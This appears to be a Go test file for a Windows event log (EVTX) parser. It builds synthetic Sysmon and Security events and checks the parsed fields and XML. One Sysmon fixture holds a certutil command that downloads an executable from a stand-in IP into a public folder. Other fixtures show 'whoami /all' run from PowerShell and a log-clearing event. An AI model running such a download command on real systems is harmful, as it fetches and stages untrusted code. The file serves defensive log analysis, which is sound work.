package evtx

import (
	"bytes"
	"errors"
	"io"
	"strings"
	"testing"
	"time"
)

// readAll opens a file and reads every event, failing the test on an
// error other than the end.
func readAll(t testing.TB, b []byte, opts Options) (*Reader, []*Event) {
	t.Helper()
	r, err := OpenWith(bytes.NewReader(b), int64(len(b)), opts)
	if err != nil {
		t.Fatalf("Open: %v", err)
	}
	var evs []*Event
	for {
		ev, err := r.Next()
		if errors.Is(err, io.EOF) {
			return r, evs
		}
		if err != nil {
			t.Fatalf("Next: %v", err)
		}
		evs = append(evs, ev)
	}
}

// oneEvent writes one record and reads it back.
func oneEvent(t *testing.T, tmpl *ttemplate, vals []tval) *Event {
	t.Helper()
	f := newFileWriter()
	f.add(when, func(w *chunkWriter) { w.document(tmpl, vals) })
	r, evs := readAll(t, f.bytes(), Options{})
	if len(evs) != 1 || len(r.Problems()) != 0 {
		t.Fatalf("read %d events, problems %v", len(evs), r.Problems())
	}
	return evs[0]
}

func TestSysmonProcessCreation(t *testing.T) {
	cmd := `certutil.exe -urlcache -split -f http://203.0.113.9/a.exe C:\Users\Public\a.exe`
	tm, vals := sysmon1(42, cmd)
	ev := oneEvent(t, tm, vals)
	if ev.RecordID != 1 || !ev.Written.Equal(when.Truncate(100*time.Nanosecond)) {
		t.Errorf("record header: id %d written %v", ev.RecordID, ev.Written)
	}
	want := map[string]any{
		"EventID": "1", "Channel": "Microsoft-Windows-Sysmon/Operational", "Provider_Name": "Microsoft-Windows-Sysmon",
		"Provider_Guid": "{5770385F-C22A-43E0-BF4C-06F5698FFBD9}", "Computer": "PC-01.so-tc.gov.vn", "Level": "4",
		"Version": "5", "Task": "1", "Opcode": "0", "Keywords": "0x8000000000000000", "EventRecordID": "42",
		"TimeCreated": "2024-03-05T12:34:56.7890123Z", "Execution_ProcessID": "3140", "Execution_ThreadID": "4188",
		"Security_UserID": "S-1-5-18",
		"RuleName":        "-", "UtcTime": "2024-03-05 12:34:56.789", "ProcessGuid": "{9D1C5F2E-1234-65E7-0B05-000000001B00}",
		"ProcessId": "6012", "Image": `C:\Windows\System32\certutil.exe`, "FileVersion": "10.0.19041.1 (WinBuild.160101.0800)",
		"Description": "CertUtil.exe", "Product": "Microsoft® Windows® Operating System", "Company": "Microsoft Corporation",
		"OriginalFileName": "CertUtil.exe", "CommandLine": cmd, "CurrentDirectory": `C:\Users\nam\`, "User": `SO-TC\nam`,
		"LogonGuid": "{9D1C5F2E-0000-65E7-8C3D-0C0000000000}", "LogonId": "0xc3d8c", "TerminalSessionId": "1",
		"IntegrityLevel": "Medium", "Hashes": "SHA256=0F3E7A9B1C2D4E5F60718293A4B5C6D7E8F90123456789ABCDEF0123456789AB",
		"ParentProcessGuid": "{9D1C5F2E-1200-65E7-0A05-000000001B00}", "ParentProcessId": "4300",
		"ParentImage": `C:\Windows\System32\cmd.exe`, "ParentCommandLine": `"C:\Windows\system32\cmd.exe"`, "ParentUser": `SO-TC\nam`,
	}
	checkFlat(t, Flatten(ev), want)
	s := ev.System
	if s.EventID != 1 || s.Level != 4 || s.Keywords != 0x8000000000000000 || s.ProcessID != 3140 || s.EventRecordID != 42 ||
		!s.TimeCreated.Equal(time.Date(2024, 3, 5, 12, 34, 56, 789012300, time.UTC)) || s.HasQualifiers {
		t.Errorf("System = %+v", s)
	}
	x := ev.XML()
	for _, part := range []string{
		`<Event xmlns="http://schemas.microsoft.com/win/2004/08/events/event"><System><Provider Name="Microsoft-Windows-Sysmon" Guid="{5770385F-C22A-43E0-BF4C-06F5698FFBD9}"/><EventID>1</EventID>`,
		`<TimeCreated SystemTime="2024-03-05T12:34:56.7890123Z"/><EventRecordID>42</EventRecordID><Correlation/><Execution ProcessID="3140" ThreadID="4188"/>`,
		`<Data Name="CommandLine">` + cmd + `</Data>`,
		`<Data Name="ParentCommandLine">"C:\Windows\system32\cmd.exe"</Data>`,
	} {
		if !strings.Contains(x, part) {
			t.Errorf("XML lacks %s\n%s", part, x)
		}
	}
}

func TestSecurityLogon(t *testing.T) {
	tm, vals := security4624(9001)
	ev := oneEvent(t, tm, vals)
	checkFlat(t, Flatten(ev), map[string]any{
		"EventID": "4624", "Channel": "Security", "Provider_Name": "Microsoft-Windows-Security-Auditing",
		"Provider_Guid": "{54849625-5478-4994-A5BA-3E3B0328C30D}", "Computer": "DC01.so-tc.gov.vn", "Level": "0",
		"Version": "2", "Task": "12544", "Opcode": "0", "Keywords": "0x8020000000000000", "EventRecordID": "9001",
		"TimeCreated": "2024-03-05T12:34:56.7890123Z", "Execution_ProcessID": "812", "Execution_ThreadID": "7260",
		"Correlation_ActivityID": "{0F8A2E7C-6E1B-0001-A52E-8A0F1B6EDA01}",
		"SubjectUserSid":         "S-1-0-0", "SubjectUserName": "-", "SubjectDomainName": "-", "SubjectLogonId": "0x0",
		"TargetUserSid": "S-1-5-21-3623811015-3361044348-30300820-1013", "TargetUserName": "nam", "TargetDomainName": "SO-TC",
		"TargetLogonId": "0x8d3b1f", "LogonType": "3", "LogonProcessName": "NtLmSsp ", "AuthenticationPackageName": "NTLM",
		"WorkstationName": "WS-17", "LogonGuid": "{00000000-0000-0000-0000-000000000000}", "TransmittedServices": "-",
		"LmPackageName": "NTLM V2", "KeyLength": "128", "ProcessId": "0x0", "ProcessName": "-", "IpAddress": "10.20.30.40",
		"IpPort": "49832", "ImpersonationLevel": "%%1833", "RestrictedAdminMode": "-", "TargetOutboundUserName": "-",
		"TargetOutboundDomainName": "-", "VirtualAccount": "%%1843", "TargetLinkedLogonId": "0x0", "ElevatedToken": "%%1842",
	})
	if ev.System.UserID != "" || strings.Contains(ev.XML(), "UserID") {
		t.Errorf("a null optional UserID must leave the attribute out: %s", ev.XML())
	}
}

func TestSecurityProcessCreation(t *testing.T) {
	tm, vals := security4688(77)
	ev := oneEvent(t, tm, vals)
	f := Flatten(ev)
	for k, v := range map[string]string{
		"EventID": "4688", "NewProcessName": `C:\Windows\System32\whoami.exe`, "CommandLine": "whoami /all",
		"ParentProcessName": `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, "NewProcessId": "0x1a2c",
		"ProcessId": "0x2f4", "MandatoryLabel": "S-1-16-8192", "TokenElevationType": "%%1938", "SubjectUserName": "nam",
	} {
		if f[k] != v {
			t.Errorf("%s = %#v, want %q", k, f[k], v)
		}
	}
}

func TestUserDataNestedBinXML(t *testing.T) {
	tm, vals := security1102(5)
	ev := oneEvent(t, tm, vals)
	if ev.Section != "UserData" {
		t.Fatalf("section %q", ev.Section)
	}
	want := `<UserData><LogFileCleared xmlns="http://manifests.microsoft.com/win/2004/08/windows/eventlog"><SubjectUserSid>S-1-5-21-3623811015-3361044348-30300820-500</SubjectUserSid><SubjectUserName>Administrator</SubjectUserName><SubjectDomainName>SO-TC</SubjectDomainName><SubjectLogonId>0x3e7</SubjectLogonId></LogFileCleared></UserData></Event>`
	if !strings.HasSuffix(ev.XML(), want) {
		t.Errorf("XML:\n%s\nwant suffix\n%s", ev.XML(), want)
	}
	f := Flatten(ev)
	if f["SubjectUserName"] != "Administrator" || f["SubjectLogonId"] != "0x3e7" || f["EventID"] != "1102" || f["Provider_Name"] != "Microsoft-Windows-Eventlog" {
		t.Errorf("Flatten = %v", f)
	}
}

// checkFlat compares a flattened event with the expected map, both ways.
func checkFlat(t *testing.T, got, want map[string]any) {
	t.Helper()
	for k, v := range want {
		if g, ok := got[k]; !ok || g != v {
			t.Errorf("%s = %#v, want %#v", k, g, v)
		}
	}
	for k, v := range got {
		if _, ok := want[k]; !ok {
			t.Errorf("unexpected field %s = %#v", k, v)
		}
	}
}

// TestUnnamedData checks an Application Error style event: Data elements
// without names, and Binary, as Sigma's `Data|contains` rules read them.
func TestUnnamedData(t *testing.T) {
	q := uint16(0)
	tm := &ttemplate{id: 8, root: tnode{name: "Event", attrs: []tattr{{name: "xmlns", text: eventNS}}, children: []tnode{
		systemNode(),
		{name: "EventData", children: []tnode{
			{name: "Data", sub: sub(18, typeString)},
			{name: "Data", sub: sub(19, typeString)},
			{name: "Data", attrs: []tattr{{name: "Name", text: "Channel"}}, sub: sub(20, typeString)},
			{name: "Binary", sub: sub(21, typeBinary)},
		}},
	}}}
	sys := sysSpec{provider: "Application Error", eventID: 1000, qualifiers: &q, level: 2, time: when, recordID: 3, channel: "Application", computer: "WS-17"}
	vals := append(sys.values(), vStr("MsMpEng.exe"), vStr("mpengine.dll"), vStr("not the channel"), vBin([]byte{1, 2}))
	ev := oneEvent(t, tm, vals)
	f := Flatten(ev)
	data, ok := f["Data"].([]string)
	if !ok || len(data) != 2 || data[0] != "MsMpEng.exe" || data[1] != "mpengine.dll" {
		t.Errorf("Data = %#v", f["Data"])
	}
	if f["Binary"] != "0102" || f["Channel"] != "Application" || f["Qualifiers"] != "0" || f["EventID"] != "1000" {
		t.Errorf("Flatten = %v", f)
	}
	if !ev.System.HasQualifiers || !strings.Contains(ev.XML(), `<EventID Qualifiers="0">1000</EventID>`) {
		t.Errorf("XML %s", ev.XML())
	}
}
